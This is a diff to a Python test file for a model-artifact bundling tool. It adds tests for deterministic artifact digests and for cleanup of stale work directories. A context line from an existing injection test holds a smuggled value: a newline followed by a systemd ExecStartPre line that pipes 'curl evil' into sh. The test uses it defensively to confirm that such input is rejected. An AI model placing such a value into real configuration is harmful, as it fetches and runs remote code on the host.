@@ -200,3 +200,44 @@ def test_the_library_refuses_it_too_and_device_dir_cannot_inject_unit_lines(tmp_
         make_bundle(art, load_target("cpu-x86-64"), tmp_path / "b",
                     BundleConfig(device_dir="edgepack\nExecStartPre=/bin/sh -c 'curl evil|sh'"))
     assert not (tmp_path / "b").exists()
+
+
+def test_committed_bytes_do_not_depend_on_writer_order(tmp_path):
+    """safetensors emits its metadata table in hash-map order and peft writes target_modules from a set: the
+    committed artifact has one canonical form, so identical runs give identical digests (and cache keys)."""
+    import struct
+
+    import numpy as np
+    from safetensors.numpy import save_file
+
+    def header(p):
+        raw = p.read_bytes()
+        (n,) = struct.unpack("<Q", raw[:8])
+        return raw[8:8 + n]
+
+    outs = []
+    for i, order in enumerate([["b", "a", "c"], ["c", "b", "a"]]):
+        with ArtifactWriter(tmp_path / f"a{i}") as w:
+            save_file({"x.weight": np.arange(6, dtype=np.float32)}, str(w.path / "model.safetensors"),
+                      metadata={k: k * 3 for k in order})
+            (w.path / "adapter").mkdir()
+            (w.path / "adapter" / "adapter_config.json").write_text(json.dumps({"r": 4, "target_modules": order}))
+            outs.append(w.commit(format="hf", record=None, base_model="x"))
+    assert outs[0].digest() == outs[1].digest()
+    h = json.loads(header(outs[0].path / "model.safetensors"))
+    assert list(h["__metadata__"]) == ["a", "b", "c"] and list(h) == sorted(h)
+    assert json.loads((outs[0].path / "adapter" / "adapter_config.json").read_text())["target_modules"] == ["a", "b", "c"]
+    from safetensors.numpy import load_file
+
+    assert load_file(str(outs[0].path / "model.safetensors"))["x.weight"].tolist() == list(range(6))
+    open_artifact(outs[0].path, verify=True)
+
+
+def test_work_dirs_of_killed_runs_are_removed(tmp_path):
+    from edgepack.artifact import WorkDir
+
+    stale = tmp_path / ".out.work-999999999"  # a pid that cannot exist
+    stale.mkdir()
+    with WorkDir(tmp_path / "out") as work:
+        assert not stale.exists() and str(tmp_path) in work
+    assert sorted(p.name for p in tmp_path.iterdir()) == []
